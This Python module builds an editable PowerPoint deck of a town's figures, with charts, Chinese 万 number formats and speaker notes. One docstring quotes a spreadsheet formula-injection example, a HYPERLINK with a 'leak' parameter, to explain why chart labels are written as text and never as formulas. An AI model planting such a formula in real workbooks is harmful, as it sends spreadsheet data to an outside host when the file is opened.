"""The take-away deck: the same slides as the screen, as a 16:9 .pptx with native (editable) charts and speaker notes."""

from __future__ import annotations

import io
from contextlib import contextmanager

from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.chart.xlsx import CategoryWorkbookWriter
from pptx.dml.color import RGBColor
from pptx.enum.chart import XL_CHART_TYPE, XL_LABEL_POSITION, XL_LEGEND_POSITION
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.oxml.xmlchemy import OxmlElement
from pptx.util import Emu, Inches, Pt
from xlsxwriter import Workbook

from presenter.slides import Chart, Deck, Slide, describe

WIDTH, HEIGHT = Emu(12_192_000), Emu(6_858_000)  # 16:9, 13.333 × 7.5 in (PowerPoint's widescreen)
INK = RGBColor(0x1B, 0x2A, 0x41)  # titles and figures' labels
MUTED = RGBColor(0x5B, 0x67, 0x78)  # messages, details, footers
ACCENT = RGBColor(0xC6, 0x28, 0x28)  # the town's red: big numbers and the rule under the title
SERIES = (RGBColor(0x1F, 0x5F, 0xA8), RGBColor(0xB0, 0xBE, 0xC5), RGBColor(0xE6, 0x8A, 0x00))
RULE = RGBColor(0xE3, 0xE6, 0xEA)
FONTS = {"zh": "Microsoft YaHei", "en": "Calibri"}
CHART_TYPES = {
    "bar": XL_CHART_TYPE.BAR_CLUSTERED,
    "column": XL_CHART_TYPE.COLUMN_CLUSTERED,
    "line": XL_CHART_TYPE.LINE_MARKERS,
}
NUMBER_FORMATS = {"count": "#,##0", "hours": "#,##0.#", "percent": "0%", "yuan": "¥#,##0"}
LABEL_FORMATS = {**NUMBER_FORMATS, "yuan": "¥#,##0;-¥#,##0;;"}  # a month with no money gets no "¥0" label
# A Chinese money chart counts in 万, as its title says (每月募集与使用（万元）): the chart keeps the yuan (its data
# stay editable and add up) and Excel's format shows them in 万 — the comma divides by 1,000 and "!." writes the
# point one digit further left, so 431,800 reads 43.2万.
WAN = '0!.0,"万"'
NUMBER_FORMATS_ZH = {**NUMBER_FORMATS, "yuan": WAN}
LABEL_FORMATS_ZH = {**LABEL_FORMATS, "yuan": f"{WAN};-{WAN};;"}


def number_formats(unit: str, lang: str) -> tuple[str, str]:
    """The (axis, data label) number formats of a chart in `unit` for a deck in `lang`."""
    if lang == "zh":
        return NUMBER_FORMATS_ZH[unit], LABEL_FORMATS_ZH[unit]
    return NUMBER_FORMATS[unit], LABEL_FORMATS[unit]


class _TextOnlyWorkbookWriter(CategoryWorkbookWriter):
    """The chart's embedded workbook with every label written as text.

    python-pptx writes it with xlsxwriter's defaults, which turn a string starting with '=' into a live formula
    (and URLs into links): a project theme `=HYPERLINK("https://…?leak="&B2)` would run when the chart's data
    is opened in PowerPoint or Excel. Labels come from analysts' spreadsheets, so they are data, never formulas.
    """

    @contextmanager
    def _open_worksheet(self, xlsx_file):
        workbook = Workbook(xlsx_file, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
        worksheet = workbook.add_worksheet()
        yield workbook, worksheet
        workbook.close()


class TextOnlyChartData(CategoryChartData):
    """CategoryChartData whose embedded workbook holds no formula or link made from a label."""

    @property
    def _workbook_writer(self) -> CategoryWorkbookWriter:
        return _TextOnlyWorkbookWriter(self)


class _Writer:
    def __init__(self, deck: Deck) -> None:
        self.deck = deck
        self.font = FONTS.get(deck.lang, "Calibri")
        self.prs = Presentation()
        self.prs.slide_width, self.prs.slide_height = WIDTH, HEIGHT
        self.blank = self.prs.slide_layouts[6]

    def text(
        self,
        slide,
        text: str,
        left: int,  # EMU (Inches(…), Pt(…) and Emu(…) are ints)
        top: int,
        width: int,
        height: int,
        *,
        size: int,
        colour: RGBColor = INK,
        bold: bool = False,
        align: PP_ALIGN = PP_ALIGN.LEFT,
        anchor: MSO_ANCHOR = MSO_ANCHOR.TOP,
    ):
        box = slide.shapes.add_textbox(left, top, width, height)
        frame = box.text_frame
        frame.word_wrap = True
        frame.vertical_anchor = anchor
        frame.margin_left = frame.margin_right = frame.margin_top = frame.margin_bottom = 0
        paragraph = frame.paragraphs[0]
        paragraph.alignment = align
        run = paragraph.add_run()
        run.text = text
        self.style(run.font, size, colour, bold)
        return box

    def style(self, font, size: int, colour: RGBColor | None = None, bold: bool = False) -> None:
        font.size, font.bold, font.name = Pt(size), bold, self.font
        if colour is not None:
            font.color.rgb = colour
        # East Asian glyphs take the `ea` typeface, not the Latin one: name it too so Chinese is not left to chance.
        rpr = font._rPr
        for tag in ("a:ea", "a:cs"):
            node = rpr.find(qn(tag))
            if node is None:
                node = OxmlElement(tag)
                rpr.append(node)
            node.set("typeface", self.font)

    def sample_mark(self, slide) -> None:
        """A red '示例数据 · 非正式统计' at the top of the slide while the figures are the sample's."""
        if self.deck.sample:
            self.text(
                slide,
                self.deck.sample_mark,
                Inches(4.2),
                Inches(0.3),
                Inches(5.2),
                Inches(0.35),
                size=14,
                colour=RGBColor(0xC6, 0x28, 0x28),
                bold=True,
                align=PP_ALIGN.CENTER,
            )

    def frame(self, slide, page: Slide, number: int) -> None:
        """What every content slide has: the town line, title, message, a rule, the footer and the page number."""
        s = slide
        self.text(
            s,
            self.deck.t("presenter.footer_town"),
            Inches(0.6),
            Inches(0.3),
            Inches(9),
            Inches(0.3),
            size=12,
            colour=MUTED,
        )
        self.sample_mark(s)
        counter = self.deck.t("presenter.counter", i=number, n=len(self.deck.slides))
        self.text(
            s, counter, Inches(9.7), Inches(0.3), Inches(3.0), Inches(0.3), size=12, colour=MUTED, align=PP_ALIGN.RIGHT
        )
        self.text(s, page.title, Inches(0.6), Inches(0.65), Inches(12.1), Inches(0.7), size=32, bold=True)
        self.text(s, page.message, Inches(0.6), Inches(1.35), Inches(12.1), Inches(0.5), size=18, colour=MUTED)
        bar = s.shapes.add_shape(1, Inches(0.6), Inches(1.95), Inches(1.2), Inches(0.06))
        bar.fill.solid()
        bar.fill.fore_color.rgb = ACCENT
        bar.line.fill.background()
        self.text(
            s, self.deck.footer(page), Inches(0.6), Inches(6.95), Inches(12.1), Inches(0.35), size=11, colour=MUTED
        )

    def figures(self, slide, page: Slide) -> None:
        top, step = Inches(2.3), Inches(1.5)
        for i, fig in enumerate(page.figures):
            y = top + step * i
            self.text(slide, fig.text, Inches(0.6), y, Inches(4.2), Inches(0.8), size=48, colour=ACCENT, bold=True)
            self.text(slide, fig.label, Inches(0.6), y + Inches(0.78), Inches(4.2), Inches(0.35), size=16, bold=True)
            if fig.detail:
                self.text(
                    slide, fig.detail, Inches(0.6), y + Inches(1.1), Inches(4.2), Inches(0.3), size=11, colour=MUTED
                )

    def chart(self, slide, chart: Chart) -> None:
        axis_format, label_format = number_formats(chart.unit, self.deck.lang)
        data = TextOnlyChartData(number_format=axis_format)
        data.categories = list(chart.categories)
        for series in chart.series:
            data.add_series(series.name, list(series.values))
        left, top, width, height = Inches(5.2), Inches(2.15), Inches(7.6), Inches(4.7)
        self.text(slide, chart.title, left, top, width, Inches(0.35), size=14, colour=MUTED, bold=True)
        frame = slide.shapes.add_chart(
            CHART_TYPES[chart.kind], left, top + Inches(0.4), width, height - Inches(0.4), data
        )
        # alt text (issue 19): the chart's figures in a sentence, as PowerPoint's own "Alt Text" pane writes it
        frame._element.nvGraphicFramePr.cNvPr.set("descr", describe(chart, self.deck.lang))
        plot = frame.chart
        self.style(plot.font, 12, MUTED)
        plot.has_title = False
        plot.has_legend = len(chart.series) > 1
        if plot.has_legend:
            plot.legend.position = XL_LEGEND_POSITION.TOP
            plot.legend.include_in_layout = False
            self.style(plot.legend.font, 12, MUTED)
        values = plot.value_axis
        values.has_major_gridlines = chart.kind == "line"
        if chart.kind == "line":
            values.major_gridlines.format.line.color.rgb = RULE
        else:  # bars carry their own labels: an axis of numbers beside them is only noise
            values.visible = False
        values.format.line.fill.background()
        values.tick_labels.number_format = axis_format
        values.tick_labels.number_format_is_linked = False
        values.minimum_scale = 0
        if chart.ceiling is not None:
            values.maximum_scale = chart.ceiling
        categories = plot.category_axis
        categories.format.line.color.rgb = RULE
        categories.has_major_gridlines = False
        if chart.kind == "bar":
            categories.reverse_order = True  # PowerPoint draws the first category at the bottom otherwise
        group = plot.plots[0]
        if chart.kind != "line":
            group.gap_width = 60
            group.overlap = -10 if len(chart.series) > 1 else 0
        group.has_data_labels = True
        labels = group.data_labels
        labels.number_format = label_format
        labels.number_format_is_linked = False
        labels.position = XL_LABEL_POSITION.ABOVE if chart.kind == "line" else XL_LABEL_POSITION.OUTSIDE_END
        self.style(labels.font, 12, INK)
        for i, series in enumerate(plot.series):
            colour = SERIES[i % len(SERIES)]
            if chart.kind == "line":
                series.format.line.color.rgb = colour
                series.format.line.width = Pt(3)
                series.smooth = False
                series.marker.format.fill.solid()
                series.marker.format.fill.fore_color.rgb = colour
                series.marker.format.line.color.rgb = colour
            else:
                series.format.fill.solid()
                series.format.fill.fore_color.rgb = colour

    def cover(self, page: Slide) -> None:
        s = self.prs.slides.add_slide(self.blank)
        band = s.shapes.add_shape(1, 0, 0, Inches(0.35), HEIGHT)
        band.fill.solid()
        band.fill.fore_color.rgb = ACCENT
        band.line.fill.background()
        self.text(
            s,
            self.deck.t("presenter.footer_town"),
            Inches(1.1),
            Inches(1.6),
            Inches(11),
            Inches(0.4),
            size=18,
            colour=MUTED,
        )
        self.text(
            s,
            page.title,
            Inches(1.1),
            Inches(2.1),
            Inches(11.5),
            Inches(1.7),
            size=48,
            bold=True,
            anchor=MSO_ANCHOR.BOTTOM,
        )
        self.text(
            s, page.message, Inches(1.1), Inches(4.0), Inches(11.5), Inches(0.6), size=26, colour=ACCENT, bold=True
        )
        self.sample_mark(s)
        programmes = self.deck.t("presenter.cover.programmes")
        self.text(s, programmes, Inches(1.1), Inches(4.9), Inches(11.5), Inches(0.9), size=16, colour=MUTED)
        self.text(s, self.deck.footer(page), Inches(1.1), Inches(6.8), Inches(11.5), Inches(0.4), size=11, colour=MUTED)
        self.notes(s, page)

    def content(self, page: Slide, number: int) -> None:
        s = self.prs.slides.add_slide(self.blank)
        self.frame(s, page, number)
        self.figures(s, page)
        if page.chart is not None:
            self.chart(s, page.chart)
        self.remarks(s, page)
        self.notes(s, page)

    def remarks(self, slide, page: Slide) -> None:
        """The notes (说明备注) that explain the slide's figures, on one line beside the rule under the message
        (and in the speaker notes, with the definitions)."""
        if page.remarks:
            line = self.deck.t("note.speaker", line=("；" if self.deck.lang == "zh" else "; ").join(page.remarks))
            self.text(slide, line, Inches(2.0), Inches(1.86), Inches(10.7), Inches(0.3), size=12, colour=ACCENT)

    def notes(self, slide, page: Slide) -> None:
        slide.notes_slide.notes_text_frame.text = self.deck.speaker_notes(page)

    def write(self) -> bytes:
        for number, page in enumerate(self.deck.slides, start=1):
            if page.key == "cover":
                self.cover(page)
            else:
                self.content(page, number)
        props = self.prs.core_properties
        props.title = f"{self.deck.title} · {self.deck.year}"
        props.author = props.last_modified_by = self.deck.t("presenter.footer_town")
        props.subject = self.deck.t("presenter.as_of", date=self.deck.day.isoformat())
        buffer = io.BytesIO()
        self.prs.save(buffer)
        return buffer.getvalue()


def to_pptx(deck: Deck) -> bytes:
    """The deck as .pptx bytes: one slide per Slide, charts as native charts, definitions and sources in the notes."""
    return _Writer(deck).write()
